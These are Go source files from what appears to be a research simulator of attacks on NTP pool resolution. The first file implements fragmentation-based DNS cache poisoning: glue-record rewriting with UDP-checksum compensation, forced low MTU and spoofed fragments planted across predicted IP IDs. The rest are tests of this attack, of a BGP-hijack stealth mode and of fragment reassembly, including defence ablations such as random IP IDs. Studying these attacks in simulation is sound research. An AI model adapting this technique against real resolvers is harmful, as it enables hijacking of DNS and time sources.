		if off, err = skipName(msg, off); err != nil {
			return nil, err
		}
		off += 4
	}
	locs := make([]RecordLoc, 0, total)
	for i := 0; i < total; i++ {
		nameOff := off
		if off, err = skipName(msg, off); err != nil {
			return nil, err
		}
		if off+10 > len(msg) {
			return nil, dnswire.ErrShortMessage
		}
		name, _, err := readNameAt(msg, nameOff)
		if err != nil {
			return nil, err
		}
		typ := dnswire.Type(binary.BigEndian.Uint16(msg[off : off+2]))
		rdlen := int(binary.BigEndian.Uint16(msg[off+8 : off+10]))
		locs = append(locs, RecordLoc{
			Name:     name,
			Type:     typ,
			TTLOff:   off + 4,
			RDataOff: off + 10,
			RDLen:    rdlen,
		})
		off += 10 + rdlen
		if off > len(msg) {
			return nil, dnswire.ErrShortMessage
		}
	}
	return locs, nil
}

// skipName advances past a (possibly compressed) name.
func skipName(msg []byte, off int) (int, error) {
	for {
		if off >= len(msg) {
			return 0, dnswire.ErrShortMessage
		}
		b := msg[off]
		switch {
		case b == 0:
			return off + 1, nil
		case b&0xC0 == 0xC0:
			return off + 2, nil
		case b&0xC0 != 0:
			return 0, fmt.Errorf("attack: reserved label type %#x", b&0xC0)
		default:
			off += 1 + int(b)
		}
	}
}

// readNameAt decodes the name at off (delegating to a tiny local decoder
// mirroring dnswire's semantics: lowercase, pointer-following).
func readNameAt(msg []byte, off int) (string, int, error) {
	// Decode by re-using dnswire: decode the whole message once would be
	// wasteful per record; a minimal pointer-following reader suffices.
	var out []byte
	hops := 0
	jumped := false
	after := off
	for {
		if off < 0 || off >= len(msg) {
			return "", 0, dnswire.ErrShortMessage
		}
		b := msg[off]
		switch {
		case b == 0:
			if !jumped {
				after = off + 1
			}
			return string(out), after, nil
		case b&0xC0 == 0xC0:
			if off+1 >= len(msg) {
				return "", 0, dnswire.ErrShortMessage
			}
			ptr := int(b&0x3F)<<8 | int(msg[off+1])
			if !jumped {
				after = off + 2
			}
			jumped = true
			if hops++; hops > 64 || ptr >= off {
				return "", 0, errors.New("attack: pointer loop")
			}
			off = ptr
		default:
			l := int(b)
			if off+1+l > len(msg) {
				return "", 0, dnswire.ErrShortMessage
			}
			if len(out) > 0 {
				out = append(out, '.')
			}
			for _, c := range msg[off+1 : off+1+l] {
				if 'A' <= c && c <= 'Z' {
					c += 'a' - 'A'
				}
				out = append(out, c)
			}
			off += 1 + l
		}
	}
}

// swap16 exchanges the bytes of a 16-bit value — the contribution mapping
// for a field starting at an odd datagram offset.
func swap16(v uint16) uint16 { return v<<8 | v>>8 }

// onesComplementDelta returns the value d such that, in ones-complement
// arithmetic, cur + d ≡ target (mod 0xFFFF).
func onesComplementDelta(target, cur uint16) uint16 {
	t, c := uint32(target), uint32(cur)
	if t >= c {
		return uint16(t - c)
	}
	return uint16(t + 0xFFFF - c)
}

// CraftPoisonedTail rewrites a glue A record inside the raw DNS response
// `genuine`, keeping the overall UDP checksum valid so the genuine first
// fragment (which carries the server-computed checksum) still verifies
// after reassembly with the spoofed tail.
//
// The glue's address becomes newIP; its TTL becomes ttlBase (top 16 bits)
// with the low 16 bits used as the checksum-compensation field — the
// attacker happily accepts "any TTL between ttlBase and ttlBase+18h".
// Both the rdata and the TTL must lie beyond tailStart (the first byte the
// attacker's fragments cover), since bytes before it come from the genuine
// first fragment.
//
// udpOffset is the offset of the DNS payload within the UDP datagram
// (always 8, the UDP header size); it determines word-alignment parity.
func CraftPoisonedTail(genuine []byte, glueName string, newIP simnet.IP, ttlBase uint32, tailStart, udpOffset int) ([]byte, error) {
	locs, err := RecordOffsets(genuine)
	if err != nil {
		return nil, fmt.Errorf("attack: parse genuine response: %w", err)
	}
	glueName = dnswire.NormalizeName(glueName)
	var loc *RecordLoc
	for i := range locs {
		if locs[i].Type == dnswire.TypeA && locs[i].Name == glueName {
			loc = &locs[i]
			break
		}
	}
	if loc == nil {
		return nil, fmt.Errorf("%w: %q", ErrGlueNotFound, glueName)
	}
	if loc.RDLen != 4 {
		return nil, fmt.Errorf("attack: glue rdlength %d", loc.RDLen)
	}
	if loc.TTLOff < tailStart || loc.RDataOff < tailStart {
		return nil, fmt.Errorf("%w: ttl@%d rdata@%d tail@%d", ErrNotInTail, loc.TTLOff, loc.RDataOff, tailStart)
	}

	mod := append([]byte(nil), genuine...)
	copy(mod[loc.RDataOff:loc.RDataOff+4], newIP[:])
	binary.BigEndian.PutUint32(mod[loc.TTLOff:loc.TTLOff+4], ttlBase&0xFFFF0000)

	// Compensate: the ones-complement word sum of the whole datagram must
	// match the genuine one. Only bytes in [tailStart:] differ; alignment
	// is relative to the UDP datagram start.
	origSum := regionSum(genuine, tailStart, udpOffset)
	curSum := regionSum(mod, tailStart, udpOffset)
	delta := onesComplementDelta(origSum, curSum)
	compOff := loc.TTLOff + 2
	if (compOff+udpOffset)%2 == 1 {
		delta = swap16(delta)
	}
	binary.BigEndian.PutUint16(mod[compOff:compOff+2], delta)
	return mod, nil
}

// regionSum computes the ones-complement word sum of payload[from:] with
// word boundaries aligned to the enclosing UDP datagram (payload starts at
// udpOffset inside the datagram).
func regionSum(payload []byte, from, udpOffset int) uint16 {
	start := from
	var lead []byte
	if (start+udpOffset)%2 == 1 {
		// Odd start: prepend a zero byte so words align; the preceding
		// genuine byte is shared between genuine and spoofed tails and
		// cancels out of the delta.
		lead = append(lead, 0)
	}
	region := append(lead, payload[start:]...)
	return simnet.OnesComplementSum16(region)
}

// FragPoisonerConfig parameterises the attack.
type FragPoisonerConfig struct {
	VictimResolver simnet.IP   // whose fragment cache is poisoned
	TargetServer   simnet.Addr // nameserver whose response is forged (e.g. the parent/root)
	GlueName       string      // glue record to hijack, e.g. "ns1.ntp.org"
	AttackerNS     simnet.IP   // where the rewritten glue points
	ForcedMTU      int         // path MTU imposed via spoofed ICMP PTB; default 68
	IPIDWindow     int         // how many consecutive IPIDs to plant; default 8
	GlueTTLBase    uint32      // top-16-bits TTL for the poisoned glue; default ~7 days

	// ResolverEDNS is the victim resolver's EDNS0 buffer size, which the
	// attacker fingerprints beforehand (e.g. by watching its own queries
	// answered through the open resolver). The probe must mimic the
	// victim's query shape exactly so the predicted response bytes match.
	// Zero means the victim does not use EDNS0.
	ResolverEDNS uint16
}

func (c FragPoisonerConfig) withDefaults() FragPoisonerConfig {
	if c.ForcedMTU == 0 {
		c.ForcedMTU = ipfrag.MinMTU
	}
	if c.IPIDWindow == 0 {
		c.IPIDWindow = 8
	}
	if c.GlueTTLBase == 0 {
		c.GlueTTLBase = 0x00090000 // 589 824 s ≈ 6.8 days
	}
	return c
}

// FragPoisoner executes the defragmentation cache-poisoning attack from an
// attacker host that is fully off-path: it never sees resolver↔server
// traffic, only predicts it.
type FragPoisoner struct {
	host *simnet.Host
	cfg  FragPoisonerConfig

	// Planted counts spoofed fragments injected.
	Planted uint64
	// Probes counts direct probes of the target server.
	Probes uint64
}

// NewFragPoisoner builds the attacker on host.
func NewFragPoisoner(host *simnet.Host, cfg FragPoisonerConfig) *FragPoisoner {
	return &FragPoisoner{host: host, cfg: cfg.withDefaults()}
}

// ForceFragmentation shrinks the server→resolver path MTU, modelling
// spoofed ICMP fragmentation-needed messages (the paper's companion study:
// 16/30 pool.ntp.org nameservers honour these down to 548 bytes, and 64 %
// of resolvers accept even 68-byte fragments).
func (p *FragPoisoner) ForceFragmentation() {
	p.host.Net().SetPathMTU(p.cfg.TargetServer.IP, p.cfg.VictimResolver, p.cfg.ForcedMTU)
}

// Probe queries the target server directly for (qname, qtype), mimicking
// the victim resolver's query shape, and reports the raw response payload
// plus the server's current IPID counter value.
func (p *FragPoisoner) Probe(qname string, qtype dnswire.Type, cb func(resp []byte, ipid uint16, err error)) {
	net := p.host.Net()
	port := p.host.EphemeralPort()
	txid := uint16(net.Rand().Intn(1 << 16))
	done := false
	finish := func(resp []byte, ipid uint16, err error) {
		if done {
			return
		}
		done = true
		p.host.Close(port)
		cb(resp, ipid, err)
	}
	err := p.host.Listen(port, func(now time.Time, meta simnet.Meta, payload []byte) {
		if meta.From != p.cfg.TargetServer {
			return
		}
		msg, err := dnswire.DecodeBorrow(payload)
		if err != nil || msg.ID != txid {
			return
		}
		finish(append([]byte(nil), payload...), meta.IPID, nil)
	})
	if err != nil {
		cb(nil, 0, err)
		return
	}
	p.Probes++
	q := dnswire.NewQuery(txid, qname, qtype)
	q.RecursionDesired = false // mimic the resolver's iterative query
	if p.cfg.ResolverEDNS > 0 {
		q.SetEDNS(p.cfg.ResolverEDNS)
	}
	b, err := q.Encode()
	if err != nil {
		finish(nil, 0, err)
		return
	}
	if err := p.host.SendUDP(port, p.cfg.TargetServer, b); err != nil {
		finish(nil, 0, err)
		return
	}
	net.After(2*time.Second, func() { finish(nil, 0, errors.New("attack: probe timeout")) })
}

// Plant crafts the poisoned tail from the probed genuine response and
// injects spoofed fragments for the next IPIDWindow IPIDs after probedID.
// It returns the number of fragments planted per IPID.
func (p *FragPoisoner) Plant(genuine []byte, probedID uint16) (int, error) {
	chunk := (p.cfg.ForcedMTU - ipfrag.IPHeaderSize) &^ 7
	datagramLen := simnet.UDPHeaderSize + len(genuine)
	if datagramLen <= chunk {
		return 0, fmt.Errorf("%w: datagram %dB fits mtu %d", ErrNoFragmentation, datagramLen, p.cfg.ForcedMTU)
	}
	tailStart := chunk - simnet.UDPHeaderSize // first spoofable byte, in DNS-payload coordinates
	mod, err := CraftPoisonedTail(genuine, p.cfg.GlueName, p.cfg.AttackerNS, p.cfg.GlueTTLBase, tailStart, simnet.UDPHeaderSize)
	if err != nil {
		return 0, err
	}
	perID := 0
	net := p.host.Net()
	for w := 1; w <= p.cfg.IPIDWindow; w++ {
		ipid := probedID + uint16(w)
		perID = 0
		for off := chunk; off < datagramLen; off += chunk {
			end := off + chunk
			more := true
			if end >= datagramLen {
				end = datagramLen
				more = false
			}
			payload := mod[off-simnet.UDPHeaderSize : end-simnet.UDPHeaderSize]
			net.Inject(simnet.Packet{
				Src:     p.cfg.TargetServer.IP, // spoofed source
				Dst:     p.cfg.VictimResolver,
				Proto:   simnet.ProtoUDP,
				ID:      ipid,
				Offset:  off,
				More:    more,
				Payload: append([]byte(nil), payload...),
			}, 0)
			p.Planted++
			perID++
		}
	}
	return perID, nil
}

// Execute runs the full attack chain: force fragmentation, probe, craft,
// plant. The caller then triggers the victim resolver's query (via the
// open resolver, an SMTP trigger, or Chronos' own schedule). done reports
// whether planting succeeded.
func (p *FragPoisoner) Execute(qname string, qtype dnswire.Type, done func(error)) {
	p.ForceFragmentation()
	p.Probe(qname, qtype, func(resp []byte, ipid uint16, err error) {
		if err != nil {
			done(err)
			return
		}
		if _, err := p.Plant(resp, ipid); err != nil {
			done(err)
			return
		}
		done(nil)
	})
}
