package attack

import (
	"testing"
	"time"

	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/ipfrag"
	"chronosntp/internal/simnet"
)

// TestFragPoisonDefeatedByRandomIPID is the defence ablation: when the
// target nameserver draws a fresh random IPID per datagram, the attacker's
// planted fragments (keyed to the predicted sequential window) never match
// the genuine response's ID, so reassembly uses only genuine fragments.
func TestFragPoisonDefeatedByRandomIPID(t *testing.T) {
	tp := newTopo(t, 118, dnsresolver.Config{EDNSSize: 4096})
	rootHost, ok := tp.net.Host(rootIP)
	if !ok {
		t.Fatal("root host missing")
	}
	rootHost.SetRandomIPID(true)

	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(89)}
	if _, err := NewMaliciousNameserver(tp.attackerNS, "ntp.org", forge); err != nil {
		t.Fatal(err)
	}
	poisoner := NewFragPoisoner(tp.attacker, FragPoisonerConfig{
		VictimResolver: resolverIP,
		TargetServer:   simnet.Addr{IP: rootIP, Port: 53},
		GlueName:       "ns1.ntp.org",
		AttackerNS:     attackerNSIP,
		ForcedMTU:      68,
		ResolverEDNS:   4096,
	})
	planted := false
	poisoner.Execute("pool.ntp.org", dnswire.TypeA, func(err error) { planted = err == nil })
	tp.net.RunFor(5 * time.Second)
	if !planted {
		t.Fatal("attack chain did not complete")
	}

	var got dnsresolver.Result
	tp.stub.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got = r })
	tp.net.RunFor(30 * time.Second)
	if got.Err != nil {
		t.Fatalf("lookup failed: %v", got.Err)
	}
	// Genuine 4-record answer, not the forged 89.
	if len(got.RRs) != 4 {
		t.Fatalf("answers = %d, want 4 genuine records", len(got.RRs))
	}
	for _, rr := range got.RRs {
		if rr.A[0] == 66 {
			t.Fatal("forged record delivered despite random IPIDs")
		}
	}
	// Glue stays genuine.
	glue, ok := tp.resolver.Cache().Get(tp.net.Now(), "ns1.ntp.org", dnswire.TypeA)
	if !ok || glue[0].A != [4]byte(ntpOrgIP) {
		t.Errorf("glue = %+v, want genuine", glue)
	}
}

// TestFragPoisonIPIDWindowTooSmall shows the window sensitivity: if other
// traffic consumes the server's IPIDs between probe and victim query, a
// window of 1 misses while a wider window still lands.
func TestFragPoisonIPIDWindowTooSmall(t *testing.T) {
	run := func(window int, burnIPIDs int) bool {
		tp := newTopo(t, 119+int64(window), dnsresolver.Config{EDNSSize: 4096})
		forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(89)}
		if _, err := NewMaliciousNameserver(tp.attackerNS, "ntp.org", forge); err != nil {
			t.Fatal(err)
		}
		poisoner := NewFragPoisoner(tp.attacker, FragPoisonerConfig{
			VictimResolver: resolverIP,
			TargetServer:   simnet.Addr{IP: rootIP, Port: 53},
			GlueName:       "ns1.ntp.org",
			AttackerNS:     attackerNSIP,
			ForcedMTU:      68,
			ResolverEDNS:   4096,
			IPIDWindow:     window,
		})
		planted := false
		poisoner.Execute("pool.ntp.org", dnswire.TypeA, func(err error) { planted = err == nil })
		tp.net.RunFor(5 * time.Second)
		if !planted {
			t.Fatal("attack chain did not complete")
		}
		// Cross-traffic: other clients query the root, advancing its
		// IPID counter past the attacker's prediction.
		other, err := tp.net.AddHost(simnet.IPv4(10, 0, 7, 7))
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < burnIPIDs; i++ {
			q := dnswire.NewQuery(uint16(i), "pool.ntp.org", dnswire.TypeA)
			b, _ := q.Encode()
			port := other.EphemeralPort()
			_ = other.Listen(port, func(time.Time, simnet.Meta, []byte) {})
			_ = other.SendUDP(port, simnet.Addr{IP: rootIP, Port: 53}, b)
			tp.net.RunFor(100 * time.Millisecond)
			other.Close(port)
		}
		var got dnsresolver.Result
		tp.stub.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got = r })
		tp.net.RunFor(30 * time.Second)
		if got.Err != nil {
			return false
		}
		return len(got.RRs) == 89
	}
	if run(1, 4) {
		t.Error("window=1 should miss after 4 burned IPIDs")
	}
	if !run(16, 4) {
		t.Error("window=16 should still land after 4 burned IPIDs")
	}
}

// TestFragPoisonAgainstLastWinsReassembler: the DESIGN.md overlap-policy
// ablation. With a Linux-style last-wins reassembler the attack still
// succeeds when the planted tail completes the datagram before the genuine
// tail arrives — the genuine head + planted tail reassemble first, and the
// late genuine tail only opens a fresh partial.
func TestFragPoisonAgainstLastWinsReassembler(t *testing.T) {
	tp := newTopo(t, 121, dnsresolver.Config{EDNSSize: 4096})
	tp.resolver.Host().SetReassemblyPolicy(ipfrag.Config{Policy: ipfrag.LastWins})

	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(89)}
	if _, err := NewMaliciousNameserver(tp.attackerNS, "ntp.org", forge); err != nil {
		t.Fatal(err)
	}
	poisoner := NewFragPoisoner(tp.attacker, FragPoisonerConfig{
		VictimResolver: resolverIP,
		TargetServer:   simnet.Addr{IP: rootIP, Port: 53},
		GlueName:       "ns1.ntp.org",
		AttackerNS:     attackerNSIP,
		ForcedMTU:      68,
		ResolverEDNS:   4096,
	})
	planted := false
	poisoner.Execute("pool.ntp.org", dnswire.TypeA, func(err error) { planted = err == nil })
	tp.net.RunFor(5 * time.Second)
	if !planted {
		t.Fatal("attack chain did not complete")
	}
	var got dnsresolver.Result
	tp.stub.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got = r })
	tp.net.RunFor(30 * time.Second)
	if got.Err != nil {
		t.Fatalf("lookup failed: %v", got.Err)
	}
	if len(got.RRs) != 89 {
		t.Fatalf("answers = %d, want 89 (attack should survive last-wins)", len(got.RRs))
	}
}

// TestProbeTimeout: the poisoner reports failure when the target server is
// unreachable instead of hanging.
func TestProbeTimeout(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 122})
	attHost, _ := n.AddHost(attackerIP)
	poisoner := NewFragPoisoner(attHost, FragPoisonerConfig{
		VictimResolver: resolverIP,
		TargetServer:   simnet.Addr{IP: simnet.IPv4(198, 41, 0, 99), Port: 53}, // dead
		GlueName:       "ns1.ntp.org",
		AttackerNS:     attackerNSIP,
	})
	var gotErr error
	done := false
	poisoner.Execute("pool.ntp.org", dnswire.TypeA, func(err error) { gotErr, done = err, true })
	n.RunFor(time.Minute)
	if !done || gotErr == nil {
		t.Errorf("done=%v err=%v, want probe timeout", done, gotErr)
	}
}

// TestBGPHijackStealthModePassesPolicies verifies the PerResponse rotation
// mode produces §V-compliant responses that a hardened resolver accepts.
func TestBGPHijackStealthModePassesPolicies(t *testing.T) {
	tp := newTopo(t, 120, dnsresolver.Config{
		EDNSSize: 4096,
		Accept:   dnsresolver.AcceptancePolicy{MaxAnswerRecords: 4, MaxTTL: 24 * time.Hour},
	})
	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(50), TTL: 150 * time.Second}
	hj := NewBGPHijacker(tp.net, forge, simnet.IPv4(198, 51, 100, 0), 24)
	hj.PerResponse = 4
	hj.Announce()

	var got dnsresolver.Result
	tp.stub.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got = r })
	tp.net.RunFor(30 * time.Second)
	if got.Err != nil {
		t.Fatalf("lookup: %v", got.Err)
	}
	if len(got.RRs) != 4 {
		t.Fatalf("answers = %d, want 4 (stealth mode)", len(got.RRs))
	}
	for _, rr := range got.RRs {
		if rr.A[0] != 66 {
			t.Error("non-attacker record in hijacked answer")
		}
		if rr.TTL > 150 {
			t.Errorf("TTL = %d, want <= 150", rr.TTL)
		}
	}
	if tp.resolver.Stats().PolicyRejects != 0 {
		t.Error("stealth response tripped the policy")
	}
	// Rotation: a later query gets different addresses.
	tp.net.RunFor(5 * time.Minute) // let the 150s TTL expire
	var second dnsresolver.Result
	tp.stub.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { second = r })
	tp.net.RunFor(30 * time.Second)
	if second.Err != nil || len(second.RRs) != 4 {
		t.Fatalf("second lookup: %+v", second)
	}
	if second.RRs[0].A == got.RRs[0].A {
		t.Error("stealth hijacker did not rotate addresses")
	}
}
