package ipfrag

import (
	"bytes"
	"math/rand"
	"testing"
	"testing/quick"
	"time"
)

var (
	testKey = FlowKey{
		Src:   [4]byte{192, 0, 2, 1},
		Dst:   [4]byte{198, 51, 100, 7},
		Proto: 17,
		ID:    0xBEEF,
	}
	t0 = time.Date(2020, 6, 1, 0, 0, 0, 0, time.UTC)
)

func payload(n int) []byte {
	b := make([]byte, n)
	rng := rand.New(rand.NewSource(int64(n)))
	rng.Read(b)
	return b
}

func TestSplitSmallPayloadWhole(t *testing.T) {
	p := payload(100)
	frags, err := Split(testKey, p, 1500)
	if err != nil {
		t.Fatal(err)
	}
	if len(frags) != 1 {
		t.Fatalf("got %d fragments, want 1", len(frags))
	}
	if !frags[0].IsWhole() {
		t.Error("single fragment should be whole")
	}
	if !bytes.Equal(frags[0].Data, p) {
		t.Error("payload mismatch")
	}
}

func TestSplitBoundaries(t *testing.T) {
	// MTU 548 leaves 528 payload bytes per fragment.
	p := payload(1000)
	frags, err := Split(testKey, p, 548)
	if err != nil {
		t.Fatal(err)
	}
	if len(frags) != 2 {
		t.Fatalf("got %d fragments, want 2", len(frags))
	}
	if frags[0].Offset != 0 || !frags[0].More {
		t.Errorf("frag0 = off %d more %v", frags[0].Offset, frags[0].More)
	}
	if len(frags[0].Data)%FragmentUnit != 0 {
		t.Errorf("non-final fragment length %d not 8-aligned", len(frags[0].Data))
	}
	if frags[1].More {
		t.Error("final fragment must clear MF")
	}
	if frags[1].Offset != len(frags[0].Data) {
		t.Errorf("frag1 offset %d, want %d", frags[1].Offset, len(frags[0].Data))
	}
}

func TestSplitMinMTU(t *testing.T) {
	// The 68-byte minimum MTU leaves 48 payload bytes per fragment.
	p := payload(200)
	frags, err := Split(testKey, p, MinMTU)
	if err != nil {
		t.Fatal(err)
	}
	if len(frags) != 5 { // ceil(200/48)
		t.Fatalf("got %d fragments, want 5", len(frags))
	}
}

func TestSplitErrors(t *testing.T) {
	if _, err := Split(testKey, payload(10), IPHeaderSize+4); err == nil {
		t.Error("expected ErrMTUTooSmall")
	}
	if _, err := Split(testKey, payload(maxDatagram+1), 1500); err == nil {
		t.Error("expected ErrDatagramLimit")
	}
}

func reassembleAll(t *testing.T, r *Reassembler, frags []Fragment) ([]byte, bool) {
	t.Helper()
	for i, f := range frags {
		out, done := r.Insert(t0.Add(time.Duration(i)*time.Millisecond), f)
		if done {
			return out, true
		}
	}
	return nil, false
}

func TestRoundTripInOrder(t *testing.T) {
	for _, size := range []int{1, 100, 528, 529, 1472, 1473, 5000} {
		p := payload(size)
		frags, err := Split(testKey, p, 548)
		if err != nil {
			t.Fatal(err)
		}
		r := NewReassembler(Config{})
		got, done := reassembleAll(t, r, frags)
		if !done {
			t.Fatalf("size %d: reassembly incomplete", size)
		}
		if !bytes.Equal(got, p) {
			t.Fatalf("size %d: payload mismatch", size)
		}
		if r.Pending() != 0 {
			t.Errorf("size %d: %d partials left", size, r.Pending())
		}
	}
}

func TestRoundTripOutOfOrder(t *testing.T) {
	p := payload(3000)
	frags, err := Split(testKey, p, 548)
	if err != nil {
		t.Fatal(err)
	}
	rng := rand.New(rand.NewSource(7))
	rng.Shuffle(len(frags), func(i, j int) { frags[i], frags[j] = frags[j], frags[i] })
	r := NewReassembler(Config{})
	got, done := reassembleAll(t, r, frags)
	if !done {
		t.Fatal("reassembly incomplete")
	}
	if !bytes.Equal(got, p) {
		t.Fatal("payload mismatch")
	}
}

func TestDuplicateFragmentsHarmless(t *testing.T) {
	p := payload(1200)
	frags, err := Split(testKey, p, 548)
	if err != nil {
		t.Fatal(err)
	}
	r := NewReassembler(Config{})
	// Insert first fragment twice; datagram completes on the last fragment.
	if _, done := r.Insert(t0, frags[0]); done {
		t.Fatal("premature completion")
	}
	if _, done := r.Insert(t0, frags[0]); done {
		t.Fatal("premature completion on duplicate")
	}
	var got []byte
	var done bool
	for _, f := range frags[1:] {
		got, done = r.Insert(t0, f)
	}
	if !done || !bytes.Equal(got, p) {
		t.Fatal("reassembly with duplicates failed")
	}
}

func TestOverlapFirstWins(t *testing.T) {
	spoof2 := Fragment{Key: testKey, Offset: 528, More: false, Data: bytes.Repeat([]byte{0xEE}, 100)}
	first := Fragment{Key: testKey, Offset: 0, More: true, Data: bytes.Repeat([]byte{0x11}, 528)}

	r := NewReassembler(Config{Policy: FirstWins})
	// Attacker plants the spoofed tail first.
	if _, done := r.Insert(t0, spoof2); done {
		t.Fatal("tail alone should not complete")
	}
	// The genuine first fragment arrives: head + planted tail complete.
	out, done := r.Insert(t0, first)
	if !done {
		t.Fatal("expected completion with planted tail")
	}
	if out[600] != 0xEE {
		t.Errorf("tail byte = %#x, want attacker's 0xEE", out[600])
	}
	// The genuine tail arrives late and simply starts a fresh partial.
	genuine2 := Fragment{Key: testKey, Offset: 528, More: false, Data: bytes.Repeat([]byte{0xAA}, 100)}
	if _, late := r.Insert(t0, genuine2); late {
		t.Error("late genuine tail must not complete a datagram")
	}
}

func TestOverlapPoliciesResolveConflicts(t *testing.T) {
	mk := func(policy OverlapPolicy) byte {
		r := NewReassembler(Config{Policy: policy})
		a := Fragment{Key: testKey, Offset: 0, More: true, Data: bytes.Repeat([]byte{0xAA}, 16)}
		b := Fragment{Key: testKey, Offset: 8, More: false, Data: bytes.Repeat([]byte{0xBB}, 16)}
		if _, done := r.Insert(t0, a); done {
			t.Fatal("incomplete expected")
		}
		out, done := r.Insert(t0, b)
		if !done {
			t.Fatal("expected completion")
		}
		// Bytes 8..16 were claimed by both fragments.
		return out[12]
	}
	if got := mk(FirstWins); got != 0xAA {
		t.Errorf("first-wins overlap byte = %#x, want 0xAA", got)
	}
	if got := mk(LastWins); got != 0xBB {
		t.Errorf("last-wins overlap byte = %#x, want 0xBB", got)
	}
}

func TestPlantedSpoofedTailCompletesWithGenuineHead(t *testing.T) {
	// The core of the defragmentation-poisoning attack: the attacker
	// pre-plants a spoofed second fragment; when the genuine first
	// fragment arrives the reassembler combines them.
	genuine := payload(1000)
	frags, err := Split(testKey, genuine, 548)
	if err != nil {
		t.Fatal(err)
	}
	if len(frags) != 2 {
		t.Fatal("test needs a 2-fragment datagram")
	}
	spoofTail := Fragment{
		Key:    testKey,
		Offset: frags[1].Offset,
		More:   false,
		Data:   bytes.Repeat([]byte{0xEE}, len(frags[1].Data)),
	}
	r := NewReassembler(Config{Policy: FirstWins})
	if _, done := r.Insert(t0, spoofTail); done {
		t.Fatal("tail alone must not complete")
	}
	if !r.HasPending(testKey) {
		t.Fatal("spoofed tail should be pending")
	}
	out, done := r.Insert(t0.Add(time.Second), frags[0])
	if !done {
		t.Fatal("genuine head + spoofed tail should complete")
	}
	if !bytes.Equal(out[:528], genuine[:528]) {
		t.Error("head bytes must be genuine")
	}
	if !bytes.Equal(out[528:], spoofTail.Data) {
		t.Error("tail bytes must be the attacker's")
	}
}

func TestTimeoutEviction(t *testing.T) {
	p := payload(1000)
	frags, _ := Split(testKey, p, 548)
	r := NewReassembler(Config{Timeout: 10 * time.Second})
	r.Insert(t0, frags[0])
	if r.Pending() != 1 {
		t.Fatal("expected one partial")
	}
	// The tail arrives too late: the head has been evicted, so the
	// datagram never completes.
	if _, done := r.Insert(t0.Add(time.Minute), frags[1]); done {
		t.Fatal("expected incomplete after eviction")
	}
	if r.Pending() != 1 { // the late tail starts a fresh partial
		t.Fatalf("pending = %d, want 1", r.Pending())
	}
}

func TestCacheCapacity(t *testing.T) {
	r := NewReassembler(Config{MaxDatagrams: 2})
	for id := 0; id < 5; id++ {
		k := testKey
		k.ID = uint16(id)
		r.Insert(t0, Fragment{Key: k, Offset: 0, More: true, Data: payload(8)})
	}
	if r.Pending() != 2 {
		t.Errorf("pending = %d, want capped at 2", r.Pending())
	}
}

func TestMaxFragmentsPerDatagram(t *testing.T) {
	r := NewReassembler(Config{MaxFragments: 3})
	for i := 0; i < 10; i++ {
		f := Fragment{Key: testKey, Offset: i * 8, More: true, Data: payload(8)}
		r.Insert(t0, f)
	}
	// Completion is impossible because later fragments were refused.
	if _, done := r.Insert(t0, Fragment{Key: testKey, Offset: 80, More: false, Data: payload(8)}); done {
		t.Error("should not complete past the fragment limit")
	}
}

func TestMalformedFragmentsDropped(t *testing.T) {
	r := NewReassembler(Config{})
	// Non-final fragment not 8-aligned.
	if _, done := r.Insert(t0, Fragment{Key: testKey, Offset: 0, More: true, Data: payload(13)}); done {
		t.Error("misaligned fragment should not complete")
	}
	if r.Pending() != 0 {
		t.Error("misaligned fragment should be dropped entirely")
	}
	// Negative/unaligned offset.
	if _, done := r.Insert(t0, Fragment{Key: testKey, Offset: 3, More: false, Data: payload(8)}); done {
		t.Error("unaligned offset should not complete")
	}
	// Beyond the 64k datagram limit.
	if _, done := r.Insert(t0, Fragment{Key: testKey, Offset: 65528, More: false, Data: payload(16)}); done {
		t.Error("oversized datagram should not complete")
	}
}

func TestFlush(t *testing.T) {
	p := payload(1000)
	frags, _ := Split(testKey, p, 548)
	r := NewReassembler(Config{})
	r.Insert(t0, frags[0])
	if !r.Flush(testKey) {
		t.Error("flush should report an existing entry")
	}
	if r.Flush(testKey) {
		t.Error("second flush should report nothing")
	}
}

func TestZeroLengthPayload(t *testing.T) {
	frags, err := Split(testKey, nil, 1500)
	if err != nil {
		t.Fatal(err)
	}
	r := NewReassembler(Config{})
	out, done := r.Insert(t0, frags[0])
	if !done || len(out) != 0 {
		t.Error("zero-length datagram should pass through")
	}
}

func TestMinFragmentFilter(t *testing.T) {
	p := payload(200)
	frags, err := Split(testKey, p, MinMTU) // 48-byte fragments
	if err != nil {
		t.Fatal(err)
	}
	// A reassembler requiring >= 128-byte fragments never completes.
	r := NewReassembler(Config{MinFragment: 128})
	if _, done := reassembleAll(t, r, frags); done {
		t.Error("tiny fragments accepted despite MinFragment")
	}
	// Accepting >= 48 works.
	r2 := NewReassembler(Config{MinFragment: 48})
	got, done := reassembleAll(t, r2, frags)
	if !done || !bytes.Equal(got, p) {
		t.Error("48-byte fragments rejected despite MinFragment=48")
	}
	// Whole datagrams always pass regardless of filters.
	r3 := NewReassembler(Config{MinFragment: 1 << 16})
	whole, _ := Split(testKey, payload(10), 1500)
	if _, done := r3.Insert(t0, whole[0]); !done {
		t.Error("whole datagram blocked by MinFragment")
	}
}

func TestDropFragments(t *testing.T) {
	p := payload(200)
	frags, _ := Split(testKey, p, 548)
	r := NewReassembler(Config{DropFragments: true})
	// 200 bytes at MTU 548 is a single whole datagram: passes.
	if _, done := r.Insert(t0, frags[0]); !done {
		t.Error("whole datagram dropped")
	}
	big, _ := Split(testKey, payload(1000), 548)
	if _, done := reassembleAll(t, NewReassembler(Config{DropFragments: true}), big); done {
		t.Error("fragments accepted despite DropFragments")
	}
}

func TestOverlapPolicyString(t *testing.T) {
	if FirstWins.String() != "first-wins" || LastWins.String() != "last-wins" {
		t.Error("policy String broken")
	}
	if OverlapPolicy(9).String() == "" {
		t.Error("unknown policy String empty")
	}
}

// Property: Split followed by in-order reassembly is the identity, for any
